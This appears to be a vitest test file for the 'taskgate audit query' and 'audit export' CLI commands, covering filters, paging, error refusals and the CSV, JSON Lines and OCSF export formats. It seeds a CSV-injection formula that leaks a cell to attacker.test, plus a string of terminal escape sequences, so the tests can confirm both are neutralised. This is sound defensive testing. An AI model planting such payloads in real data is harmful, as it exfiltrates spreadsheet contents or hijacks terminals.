/**
 * `taskgate audit query` and `audit export` through the real CLI, in-process, on a SQLite
 * file: filters, paging, the JSON shape, refusals naming the flag, and the three export
 * formats read back (JSON Lines, CSV by an RFC 4180 parser, OCSF classes).
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createAuditLog, createAuditReader } from '../../src/audit/index.js';
import { createIdGenerator, createManualClock, createSeededRandom } from '../../src/core/index.js';
import type { AuditEvent, AuditOutcome } from '../../src/model/index.js';
import { openStore } from '../../src/storage/index.js';
import { type CliSandbox, createCliSandbox } from '../support/cli.js';

const HOUR_MS = 3_600_000;
const FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"Details")';
const ESCAPES = 'evil\u001b[2J\u001b]0;pwned\u0007\u202e';

let sandbox: CliSandbox;
let all: AuditEvent[];
let bob: string;

/** Two keys (one revoked) made by the CLI, a second member, and 12 tool calls over ~3 hours. */
beforeEach(async () => {
  sandbox = createCliSandbox();
  const ok = async (...argv: string[]) => expect((await sandbox.run(...argv)).code).toBe(0);
  await ok('init', '--workspace', 'acme', '--owner', 'ada@acme.test', '--env', 'production');
  for (const name of ['cursor-work-laptop', 'claude-desktop-mac']) {
    await ok('keys', 'create', '--workspace', 'acme', '--name', name, '--env', 'production');
  }
  await ok('keys', 'revoke', 'claude-desktop-mac', '--workspace', 'acme');

  const store = await openStore(sandbox.databaseUrl);
  try {
    const workspace = (await store.workspaces.findBySlug('acme'))!;
    const ada = (await store.members.findByEmail(workspace.id, 'ada@acme.test'))!;
    bob = 'mbr_01JBOBBOBBOBBOBBOBBOBBOBBB';
    await store.members.insert({ ...ada, id: bob, email: 'bob@acme.test', name: 'Bob', role: 'member' });
    const keys = await store.apiKeys.list(workspace.id);
    // Three hours ago plus five minutes, then every 15 minutes: well clear of a `2h` boundary.
    const clock = createManualClock(new Date(Date.now() - 3 * HOUR_MS + 5 * 60_000));
    const audit = createAuditLog({ store, clock, ids: createIdGenerator(clock, createSeededRandom(3)) });
    const outcomes: AuditOutcome[] = ['ok', 'denied', 'ok', 'error', 'dry_run'];
    for (let i = 0; i < 12; i++) {
      const key = keys[i % 2]!;
      await audit.record(store, {
        workspaceId: workspace.id,
        action: i === 11 ? 'member.signed_in' : 'mcp.tool_called',
        tool: i === 11 ? null : (['get_task', 'update_task', 'delete_task'][i % 3] ?? null),
        outcome: outcomes[i % 5]!,
        memberId: i % 3 === 0 ? bob : ada.id,
        credentialId: key.id,
        credentialName: key.name,
        ip: i % 4 === 0 ? '198.51.100.2' : '203.0.113.7',
        userAgent: i === 4 ? FORMULA : 'cursor/1.2',
        clientName: i === 5 ? ESCAPES : 'cursor',
        clientVersion: '1.2.0',
        params: { task: `APO-${i}`, note: 'a, "quoted"\nline' },
      });
      clock.advance(15 * 60_000);
    }
  } finally {
    await store.close();
  }
  all = (await json('audit', 'query', '--limit', '1000')).events;
});
afterEach(() => sandbox.remove());

async function json(...argv: string[]): Promise<{ events: AuditEvent[]; nextCursor: string | null }> {
  const result = await sandbox.run(...argv, '--json');
  expect(result.code, result.stderr).toBe(0);
  return JSON.parse(result.stdout);
}

const ids = (events: readonly AuditEvent[]) => events.map((e) => e.id);

describe('audit query', () => {
  it('prints exactly one JSON object with the events newest first and no cursor on the last page', async () => {
    const result = await sandbox.run('audit', 'query', '--workspace', 'acme', '--json');
    const parsed = JSON.parse(result.stdout) as Record<string, unknown>;
    expect(Object.keys(parsed).sort()).toEqual(['events', 'nextCursor']);
    expect(parsed.nextCursor).toBeNull();
    expect(all).toHaveLength(15); // 2 × key.created, key.revoked, 12 seeded
    const times = all.map((e) => e.occurredAt);
    expect(times).toEqual([...times].sort().reverse());
    expect(all.filter((e) => e.action === 'key.created')).toHaveLength(2);
  });

  it('filters by key, member, tool, action, outcome, address and time', async () => {
    const twoHoursAgo = new Date(Date.now() - 2 * HOUR_MS).toISOString();
    const at = all[6]!.occurredAt;
    const cases: [string[], (e: AuditEvent) => boolean][] = [
      [['--key', 'cursor-work-laptop'], (e) => e.credentialName === 'cursor-work-laptop'],
      [['--member', 'BOB@acme.test'], (e) => e.memberId === bob],
      [['--tool', 'update_task'], (e) => e.tool === 'update_task'],
      [['--action', 'key.revoked'], (e) => e.action === 'key.revoked'],
      [['--outcome', 'denied'], (e) => e.outcome === 'denied'],
      [['--ip', '198.51.100.2'], (e) => e.ip === '198.51.100.2'],
      [['--since', '2h'], (e) => e.occurredAt >= twoHoursAgo],
      [['--until', at], (e) => e.occurredAt < at],
      [
        ['--key', 'cursor-work-laptop', '--outcome', 'ok', '--since', '2h'],
        (e) => e.credentialName === 'cursor-work-laptop' && e.outcome === 'ok' && e.occurredAt >= twoHoursAgo,
      ],
    ];
    for (const [flags, matches] of cases) {
      const expected = all.filter(matches);
      expect(expected.length, flags.join(' ')).toBeGreaterThan(0);
      expect(expected.length, flags.join(' ')).toBeLessThan(all.length);
      expect(ids((await json('audit', 'query', ...flags)).events), flags.join(' ')).toEqual(ids(expected));
    }
  });

  it('still finds the events of a key that has been revoked, by its name', async () => {
    const events = (await json('audit', 'query', '--key', 'claude-desktop-mac')).events;
    expect(events.map((e) => e.action)).toContain('key.revoked');
    expect(events.filter((e) => e.action === 'mcp.tool_called').length).toBeGreaterThan(0);
  });

  it('pages with the printed cursor until every event was seen once', async () => {
    const seen: AuditEvent[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: { events: AuditEvent[]; nextCursor: string | null } = await json(
        'audit',
        'query',
        '--limit',
        '4',
        ...(cursor ? ['--cursor', cursor] : []),
      );
      seen.push(...page.events);
      cursor = page.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(pages).toBe(4);
    expect(ids(seen)).toEqual(ids(all));
    const human = await sandbox.run('audit', 'query', '--limit', '4');
    expect(human.stdout).toContain(`--cursor ${all[3]!.id}`);
  });

  it('prints one aligned line per event with the member email, key, address and client', async () => {
    const result = await sandbox.run(
      'audit',
      'query',
      '--key',
      'cursor-work-laptop',
      '--action',
      'mcp.tool_called',
      '--limit',
      '3',
    );
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(5); // header, 3 events, the next-page hint
    const column = (title: string) => lines[0]!.indexOf(title);
    for (const line of lines.slice(1, 4)) {
      expect(line.indexOf('cursor-work-laptop')).toBe(column('KEY'));
      expect(line).toMatch(/@acme\.test/);
      expect(line.slice(column('IP'))).toMatch(/^(203\.0\.113\.7|198\.51\.100\.2)/);
    }
    expect(lines[1]).toContain('cursor 1.2.0');
  });

  it('strips terminal escape sequences planted in a client name from the human output', async () => {
    const result = await sandbox.run('audit', 'query', '--limit', '1000');
    // Issue 13: a client name is reduced to a safe set and quoted after the word client.
    expect(result.stdout).toContain('client "evil 2J 0 pwned 1.2.0"');
    for (const ch of ['\u001b', '\u0007', '\u202e']) expect(result.stdout).not.toContain(ch);
  });

  it('refuses unknown keys and members, bad outcomes, limits, addresses and cursors with exit 2', async () => {
    const refusals: [string[], RegExp][] = [
      [['--key', 'no-such-key'], /key: no key was ever named "no-such-key"/],
      [['--member', 'eve@acme.test'], /member: no member eve@acme\.test/],
      [['--outcome', 'failed'], /outcome: must be one of ok, denied, error, dry_run, pending/],
      [['--limit', '0'], /limit: must be a whole number from 1 to 1000/],
      [['--limit', '1001'], /limit:/],
      [['--limit', 'ten'], /limit:/],
      [['--ip', '999.1.1.1'], /ip: must be an IPv4 or IPv6 address/],
      [['--cursor', 'evt_nope'], /cursor: is not a cursor/],
      [['--since', 'yesterday'], /since: must be a duration/],
      [['--since', '1h', '--until', '2h'], /since: must be before --until/],
    ];
    for (const [flags, message] of refusals) {
      const result = await sandbox.run('audit', 'query', ...flags);
      expect(result.code, flags.join(' ')).toBe(2);
      expect(result.stderr, flags.join(' ')).toMatch(message);
    }
  });

  it('needs --workspace only when the database has more than one', async () => {
    await sandbox.run('init', '--workspace', 'globex', '--owner', 'hank@globex.test');
    const result = await sandbox.run('audit', 'query');
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/workspace: required: this database has 2 workspaces \(acme, globex\)/);
    expect((await json('audit', 'query', '--workspace', 'globex')).events).toEqual([]);
    expect((await sandbox.run('audit', 'query', '--workspace', 'initech')).code).toBe(1);
  });
});

describe('audit export', () => {
  const oldestFirst = () => [...all].reverse();

  it('writes JSON Lines, oldest first, that parse back to the same events', async () => {
    const result = await sandbox.run('audit', 'export', '--format', 'jsonl');
    expect(result.code, result.stderr).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(oldestFirst());
  });

  it('writes RFC 4180 CSV with a header and every field, nested ones as JSON text', async () => {
    const result = await sandbox.run('audit', 'export', '--format', 'csv', '--since', '4h');
    const [header, ...rows] = parseCsv(result.stdout);
    expect(header).toEqual(Object.keys(all[0]!));
    expect(rows).toHaveLength(all.length);
    const byId = new Map(oldestFirst().map((e) => [e.id, e]));
    for (const row of rows) {
      const record = Object.fromEntries(header!.map((name, i) => [name, row[i]]));
      const event = byId.get(record.id!)!;
      expect(record.action).toBe(event.action);
      expect(record.params === '' ? null : JSON.parse(record.params!)).toEqual(event.params);
      expect(record.durationMs).toBe(event.durationMs === null ? '' : String(event.durationMs));
    }
  });

  it('neutralises a spreadsheet formula planted in the user agent (CSV injection)', async () => {
    const result = await sandbox.run('audit', 'export', '--format', 'csv');
    const [header, ...rows] = parseCsv(result.stdout);
    const agent = header!.indexOf('userAgent');
    const cells = rows.map((row) => row[agent]);
    expect(cells).toContain(`'${FORMULA}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes OCSF with the class of each action', async () => {
    const result = await sandbox.run('audit', 'export', '--format', 'ocsf');
    const events = result.stdout
      .trimEnd()
      .split('\n')
      .map(
        (line) => JSON.parse(line) as { class_uid: number; category_uid: number; metadata: { uid: string } },
      );
    const byId = new Map(all.map((e) => [e.id, e]));
    expect(events).toHaveLength(all.length);
    for (const ocsf of events) {
      const action = byId.get(ocsf.metadata.uid)!.action;
      const expected = action.startsWith('key.') ? 3004 : action === 'member.signed_in' ? 3002 : 6003;
      expect([action, ocsf.class_uid]).toEqual([action, expected]);
      expect(ocsf.category_uid).toBe(expected === 6003 ? 6 : 3);
    }
  });

  it('writes to a file only its owner can read, and says how many events went there', async () => {
    const file = join(sandbox.dir, 'audit.jsonl');
    const result = await sandbox.run('audit', 'export', '--format', 'jsonl', '--output', file, '--json');
    expect(JSON.parse(result.stdout)).toEqual({
      workspace: 'acme',
      format: 'jsonl',
      events: 15,
      output: file,
    });
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(file, 'utf8')).toBe(
      (await sandbox.run('audit', 'export', '--format', 'jsonl')).stdout,
    );
  });

  it('refuses an unknown format or key before creating the output file', async () => {
    const file = join(sandbox.dir, 'never.csv');
    const format = await sandbox.run('audit', 'export', '--format', 'xml', '--output', file);
    expect(format.code).toBe(2);
    expect(format.stderr).toMatch(/format: must be one of jsonl, csv, ocsf/);
    const key = await sandbox.run('audit', 'export', '--format', 'csv', '--key', 'nope', '--output', file);
    expect(key.code).toBe(2);
    expect(() => statSync(file)).toThrow();
  });

  it('reads the log in pages of the given size, never all at once', async () => {
    const store = await openStore(sandbox.databaseUrl);
    try {
      const exported = await createAuditReader({ store }).export({}, 4);
      const sizes: number[] = [];
      const seen: AuditEvent[] = [];
      for await (const page of exported.pages) {
        sizes.push(page.length);
        seen.push(...page);
      }
      expect(sizes).toEqual([4, 4, 4, 3]);
      expect(ids(seen)).toEqual(ids(oldestFirst()));
    } finally {
      await store.close();
    }
  });
});

/** RFC 4180, just enough for the test: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (ch === '"') quoted = false;
      else field += ch;
      i++;
      continue;
    }
    if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
    i++;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}
